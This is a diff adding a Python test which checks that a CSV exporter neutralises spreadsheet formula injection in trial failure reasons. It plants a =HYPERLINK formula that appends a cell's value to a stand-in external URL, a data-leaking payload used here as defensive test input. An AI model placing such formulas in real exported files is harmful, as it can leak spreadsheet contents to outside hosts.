@@ -132,3 +132,21 @@ def test_the_data_section_links_resolve_from_reports_beside_runs(name, tmp_path)
     # Same data, same layout: same page.
     before = published.read_bytes()
     assert report.publish(run_dir, tmp_path / "reports").read_bytes() == before
+
+
+def test_a_text_a_spreadsheet_would_run_is_written_as_text(tmp_path):
+    """A neighbour's run whose failure reason is a spreadsheet formula: it stays text in the CSV."""
+    run_dir = tmp_path / "run"
+    shutil.copytree(RUNS / "cluster-failed", run_dir)
+    path = run_dir / "data" / "lifecycle.jsonl"
+    lines = path.read_text().splitlines()
+    index = next(i for i, line in enumerate(lines) if json.loads(line)["status"] == "failed")
+    trial = json.loads(lines[index])
+    trial["reason"] = '=HYPERLINK("http://example.invalid/?"&A1,"details")'
+    lines[index] = json.dumps(trial)
+    path.write_text("\n".join(lines) + "\n")
+    _, rows = read_csv_text(csvexport.csv_tables(load_run(run_dir))["lifecycle_trials.csv"])
+    assert rows[index]["reason"] == "'" + trial["reason"]
+    assert rows[index]["result"].startswith("failed: =HYPERLINK")  # not at a field's start: left as it is
+    # Numbers are numbers, negative ones included.
+    assert csvexport.csv_text(("a", "b"), [{"a": -1.5, "b": "-x"}]) == "a,b\n-1.5,'-x\n"
